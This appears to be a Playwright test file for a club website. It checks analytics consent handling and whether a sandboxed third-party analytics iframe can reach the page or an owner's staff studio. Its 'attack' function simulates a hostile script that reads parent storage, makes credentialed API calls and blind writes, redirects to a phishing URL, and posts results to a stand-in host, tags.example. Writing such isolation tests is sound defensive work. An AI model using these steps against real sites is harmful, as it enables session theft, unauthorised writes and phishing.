import { expect, type Page } from '@playwright/test'
import { alterReply } from './support/alter-reply.ts'
import { expectNoViolations } from './support/axe.ts'
import { startOwnServer } from './support/own-server.ts'
import { callStudio } from './support/sign-in-staff.ts'
import { demoPassword, tenantUrl } from './support/tenants.ts'
import { test } from './support/test.ts'

const question = (page: Page) => page.getByRole('region', { name: 'Statistics' })
const gathered = (page: Page) => page.evaluate(() => (window as { dataLayer?: unknown[] }).dataLayer?.length ?? 0)

async function openClub(page: Page, path = 'contact') {
  await page.goto(tenantUrl('pulse', `/${path}`))
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
}

test('collects at once, but nothing before a visitor agrees if the club requires consent', async ({ page }) => {
  await openClub(page)
  await expect(question(page)).toHaveCount(0)
  await expect(page.getByRole('contentinfo').getByRole('button', { name: 'Statistics' })).toHaveCount(0)
  expect(await gathered(page)).toBeGreaterThan(0)
  await alterReply(page, /\/(contact|tc)$/, (html) =>
    html.replace('"analyticsConsent":false', '"analyticsConsent":true'),
  )
  await openClub(page)
  await expect(question(page)).toContainText('May Pulse Club count visits')
  await expectNoViolations(page)
  expect(await gathered(page)).toBe(0)
  await question(page).getByRole('button', { name: 'Allow' }).click()
  await expect(question(page)).toHaveCount(0)
  expect(await gathered(page)).toBeGreaterThan(0)
  await openClub(page, 'tc')
  await expect(question(page)).toHaveCount(0)
  expect(await gathered(page)).toBeGreaterThan(0)

  // Consent can be withdrawn as easily as it was given.
  await page.getByRole('contentinfo').getByRole('button', { name: 'Statistics' }).click()
  await question(page).getByRole('button', { name: 'No, thanks' }).click()
  const before = await gathered(page)
  await page.getByRole('contentinfo').getByRole('link', { name: 'Contact' }).click()
  await expect(page).toHaveURL('/contact')
  expect(await gathered(page)).toBe(before)
  await openClub(page)
  await expect(question(page)).toHaveCount(0)
  expect(await gathered(page)).toBe(0)
})

/** What a hostile analytics script tries from its frame, each attempt with its result. */
async function attack() {
  const queued = () => (window as { dataLayer?: unknown[] }).dataLayer?.length ?? 0
  while (queued() === 0) await new Promise((resolve) => setTimeout(resolve, 20))
  const attempt = async (act: () => unknown) => {
    try {
      return String(await act())
    } catch {
      return 'refused'
    }
  }
  const call = (path: string, init: RequestInit = {}) =>
    fetch(`${document.referrer.replace(/\/[^/]*$/, '')}${path}`, { credentials: 'include', ...init })
  const json = { 'content-type': 'application/json' }
  const results = {
    page: await attempt(() => window.parent.document.title),
    token: await attempt(() => window.parent.localStorage.length),
    session: await attempt(async () => (await call('/studio/api/v1/session')).status),
    staff: await attempt(async () => (await call('/studio/api/v1/staff')).status),
    write: await attempt(
      async () => (await call('/studio/api/v1/classes', { method: 'POST', headers: json, body: '{}' })).status,
    ),
    // A simple request needs no permission to be sent; the list of classes shows whether it had any effect.
    blindWrite: await attempt(
      async () => (await call('/studio/api/v1/classes', { method: 'POST', mode: 'no-cors', body: '{}' })).type,
    ),
    studio: await attempt(() => window.open('/studio')),
    away: await attempt(() => {
      if (window.top) window.top.location.href = 'https://tags.example/phish'
      return 'sent'
    }),
    cookies: await attempt(() => `${document.cookie}${window.localStorage.length}`),
  }
  await fetch('https://tags.example/report', { method: 'POST', body: JSON.stringify(results) })
}

test('the club’s script receives events, and can’t reach the page or an owner’s studio', async ({ page }) => {
  const server = await startOwnServer()
  try {
    server.setTenant('pulse', 'localytics.url=https://tags.example/tags.js')
    const reports: Record<string, unknown>[] = []
    const requested: string[] = []
    await page.route('https://tags.example/**', async (route) => {
      const request = route.request()
      requested.push(request.url())
      if (request.url().endsWith('/report')) reports.push(request.postDataJSON())
      await route.fulfill({
        contentType: 'text/javascript',
        headers: { 'access-control-allow-origin': '*' },
        body: `setTimeout(${attack})`,
      })
    })
    await page.goto(server.url('/healthz'))
    const owner = { email: 'owner@pulse.example', password: demoPassword }
    expect(await callStudio(page, 'POST', '/session', owner)).toEqual({ kind: 'signedIn' })
    const classes = () => callStudio(page, 'GET', '/classes')
    const before = await classes()
    // A busy server may still serve the page without the setting.
    await expect(async () => {
      await page.goto(server.url('/contact'))
      await expect(page.locator('iframe')).toHaveAttribute('src', /statistics-frame/, { timeout: 5000 })
    }).toPass()
    await expect.poll(() => requested).toContain('https://tags.example/report')
    expect(reports[0]).toMatchObject({ studio: 'null', away: 'refused', cookies: '0' })
    for (const reach of ['page', 'token', 'session', 'staff', 'write'])
      expect(reports[0]?.[reach], reach).toBe('refused')
    await expect(page).toHaveURL(server.url('/contact'))
    expect(await classes()).toEqual(before)
    // The owner is still signed in, so the script was not refused for lack of a session.
    expect(await callStudio(page, 'GET', '/session')).toMatchObject({ reauthenticatedUntil: null })
  } finally {
    await server.close()
  }
})
